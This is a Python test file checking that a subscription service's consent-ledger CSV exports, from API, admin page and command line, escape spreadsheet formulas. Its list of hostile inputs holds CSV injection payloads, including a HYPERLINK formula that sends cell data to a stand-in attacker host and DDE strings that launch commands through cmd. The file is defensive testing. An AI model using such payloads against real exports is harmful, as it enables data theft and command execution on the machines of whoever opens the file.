"""No cell of an exported CSV can run as a formula in a spreadsheet (OWASP's CSV injection).

A consent record's page once came from a visitor's Referer header. It is now checked against the
pages varsel knows, but an auditor still opens the ledger export in a spreadsheet, so whatever a
row holds, cells that begin with =, +, -, @, a tab or a carriage return are written with a
leading apostrophe, in every export: the page, the API and the command line. The rows are
written through the handler here, since no form can give such a page any more.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from services.admin.entrypoints.ledger_views import spreadsheet_safe
from services.subscriptions import handlers
from services.subscriptions.domain.model import SignupForm
from tests.integration.admin.harness import CATALOGUE, TOPIC, running, sign_in
from tests.support.csv_exports import csv_text
from varsel.cli import app as varsel_cli

HOSTILE_PAGES = [
    '=HYPERLINK("https://angriper.example/?d="&A1,"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("https://www.fhi.no/side", "https://www.fhi.no/side"),
        ("kari = ola", "kari = ola"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_a_cell_that_starts_a_formula_is_quoted(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


def formula_cells(text: str) -> list[str]:
    """Return every cell of a CSV that a spreadsheet would read as a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def http_exports(url: str, folder: Path) -> dict[str, str]:
    """Sign up people from hostile pages; return the ledger CSV from the API and the page."""
    exports = {}
    async with running(url, folder) as h:
        await h.user("revisor", "auditor")
        _, token = await h.token("revisor")
        for n, page in enumerate(HOSTILE_PAGES):
            form = SignupForm(f"person{n}@example.no", (TOPIC,), "daily", "nb", page)
            assert await handlers.sign_up(h.uow(), h.deps, form, client="192.0.2.1")
        async with h.client(headers={"Authorization": f"Bearer {token}"}) as client:
            exports["api"] = csv_text((await client.get("/api/v1/admin/ledger.csv")).content)
        async with h.client() as client:
            assert (await sign_in(client, "revisor")).status_code == 303
            exports["page"] = csv_text((await client.get("/admin/ledger.csv")).content)
    return exports


def test_no_export_carries_a_formula(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    exports = asyncio.run(http_exports(sqlite_url, tmp_path))
    (tmp_path / "catalogue.toml").write_text(CATALOGUE, encoding="utf-8")
    monkeypatch.setenv("VARSEL_DATABASE_URL", sqlite_url)
    monkeypatch.setenv("VARSEL_CONFIG", str(tmp_path / "catalogue.toml"))
    cli = CliRunner().invoke(varsel_cli, ["admin", "export-ledger", "--quiet"])
    assert cli.exit_code == 0, cli.output
    exports["cli"] = csv_text(cli.stdout_bytes)
    for where, text in exports.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        assert sorted(row["page"] for row in rows) == sorted(f"'{p}" for p in HOSTILE_PAGES), where
        assert formula_cells(text) == [], where
